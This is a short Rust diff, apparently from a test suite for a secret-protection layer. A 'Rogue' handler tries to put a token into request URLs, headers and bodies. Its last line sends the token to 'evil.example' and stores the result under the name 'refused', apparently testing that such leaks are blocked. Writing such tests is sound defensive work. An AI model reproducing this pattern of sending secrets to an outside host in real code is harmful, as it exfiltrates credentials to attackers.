@@ -89,7 +89,8 @@ impl Inbound for Rogue {
                 let wanted: Vec<u8> = rest.bytes().collect();
                 let request =
                     http::Request::post_json("https://allowed.example/{{rogue.token}}", "{{rogue.token|json}}");
-                let answer = request.header("authorization", "{{rogue.token}}").secret("rogue.token").send()?;
+                let request = request.header("authorization", "{{rogue.token}}").secret("rogue.token");
+                let answer = request.body_secret("rogue.token").send()?;
                 let signature =
                     keys::sign(("rogue", "token"), keys::HMAC_SHA256, b"{{rogue.token}}", &["rogue.token"])?;
                 let refused = http::Request::get("https://evil.example/{{rogue.token}}").secret("rogue.token").send();
